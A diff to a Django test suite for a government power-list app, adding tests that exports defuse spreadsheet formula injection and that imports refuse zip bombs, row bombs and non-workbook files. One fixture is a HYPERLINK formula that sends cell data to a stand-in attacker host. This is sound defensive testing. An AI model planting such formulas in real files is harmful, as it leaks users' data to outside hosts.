@@ -1,9 +1,12 @@
 """Power and responsibility lists on PostgreSQL: demo, pages, versions,
 import/export, API and department-scoped editing."""
 
+import csv
 import datetime as dt
 import io
 import os
+import re
+import zipfile
 
 import pytest
 from django.contrib.auth.models import Group
@@ -19,7 +22,9 @@ from powerlists.documents import SOURCES
 from powerlists.models import (
     Adjustment, DutyBoundary, PowerItem, PowerListVersion, ResponsibilityList,
 )
-from powerlists.services import Notice
+from powerlists.adjustments import Notice
+
+from . import xlsx_bombs
 
 NOTICE = Notice(basis="《中华人民共和国行政许可法》第八条", effective_date=dt.date(2024, 9, 1),
                 title="关于调整区市场监管局权力清单的通知", number="南川府办发〔2024〕50号")
@@ -296,6 +301,56 @@ def test_csv_export_follows_the_filter(demo, client):
     assert text.count("\n") > 3 and "土地权属争议调处" in text and "食品生产许可" not in text
 
 
+LIVE_FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
+
+
+def test_exports_hold_no_live_formula_and_the_text_comes_back_on_import(demo, client):
+    dept = Department.objects.get(slug="scjgj")
+    remarks = {"XK00001000": LIVE_FORMULA, "XK00002000": "'引号开头的备注", "XK00003000": "-5 个工作日内补正"}
+    for code, text in remarks.items():
+        assert PowerItem.objects.filter(code=code, department=dept).update(remarks=text) == 1
+    data = export_department(client, "scjgj")
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert not any(re.search(rb"<f[ >]", xml) for xml in sheets)
+    cells = {row[0].value: row[13] for row in load_workbook(io.BytesIO(data))["权力事项"].iter_rows(min_row=2)}
+    assert {code: (cells[code].value, cells[code].data_type) for code in remarks} == {
+        code: (text, "s") for code, text in remarks.items()}
+    report = importer.import_department(data, dept, notice=None)
+    assert report.errors == [] and not report.has_changes  # read back exactly as stored
+
+    text = client.get("/quanze/export.csv?department=scjgj&status=active").content.decode("utf-8-sig")
+    rows = {row[0]: row for row in csv.reader(io.StringIO(text, newline=""))}
+    assert {code: rows[code][13] for code in remarks} == {
+        "XK00001000": "'" + LIVE_FORMULA, "XK00002000": "''引号开头的备注", "XK00003000": "'-5 个工作日内补正"}
+
+
+def _zip_of_text():
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("readme.txt", "不是表格")
+    return out.getvalue()
+
+
+REFUSED_FILES = [
+    (xlsx_bombs.row_bomb, "「权力事项」：工作表的数据范围为 A1:N1048576，共 1048576 行，超过上限 20000 行。"),
+    (lambda: xlsx_bombs.zip_bomb(60 * 1024 * 1024), "文件解压后为 60.0 MB，超过上限 50.0 MB，疑似压缩炸弹，已拒绝读取。"),
+    (_zip_of_text, "文件是 zip 压缩包，但不是 Excel 工作簿（缺少 [Content_Types].xml、xl/workbook.xml）。"),
+]
+
+
+def test_import_command_refuses_bombs_and_non_workbooks_in_chinese(demo, tmp_path):
+    for n, (build, message) in enumerate(REFUSED_FILES):
+        path = tmp_path / f"{n}.xlsx"
+        path.write_bytes(build())
+        with pytest.raises(CommandError, match=re.escape(message)):
+            call_command("import_powerlist", str(path), "--department", "scjgj", "--dry-run")
+    big = tmp_path / "big.xlsx"
+    big.write_bytes(b"PK" + b"\0" * 6 * 1024 * 1024)
+    with pytest.raises(CommandError, match="文件大小为 6.0 MB，超过上限 5.0 MB。"):
+        call_command("import_powerlist", str(big), "--department", "scjgj", "--dry-run")
+
+
 # -- admin: import view and permissions -------------------------------------------
 
 @pytest.fixture
@@ -332,6 +387,22 @@ def test_admin_import_view_office_applies_editor_only_checks(editors, client):
     response = client.post("/admin/powerlists/import/", {**form, "file": SimpleUploadedFile("a.xlsx", data)})
     assert "导入完成" in response.content.decode()
     assert PowerItem.objects.get(code="XK00002000").promised_days == 2
+
+
+def test_admin_import_shows_why_a_bomb_or_non_workbook_is_refused(editors, client):
+    _editor, office = editors
+    client.force_login(office)
+    form = {"department": Department.objects.get(slug="scjgj").pk, "basis": "清单调整", "effective_date": "2024-10-01",
+            "notice_title": "关于调整权力清单的通知", "notice_number": "", "notice_url": ""}
+    before = (PowerItem.objects.count(), Adjustment.objects.count())
+    for build, message in REFUSED_FILES:
+        response = client.post("/admin/powerlists/import/", {**form, "file": SimpleUploadedFile("a.xlsx", build())})
+        page = response.content.decode()
+        assert response.status_code == 400 and "文件无法导入" in page and message in page
+    response = client.post("/admin/powerlists/import/",
+                           {**form, "file": SimpleUploadedFile("a.xlsx", b"PK" + b"\0" * 6 * 1024 * 1024)})
+    assert response.status_code == 400 and "文件大小为 6.0 MB，超过上限 5.0 MB。" in response.content.decode()
+    assert (PowerItem.objects.count(), Adjustment.objects.count()) == before
 
 
 def test_department_editor_edits_only_own_items_and_cannot_publish(editors, client):
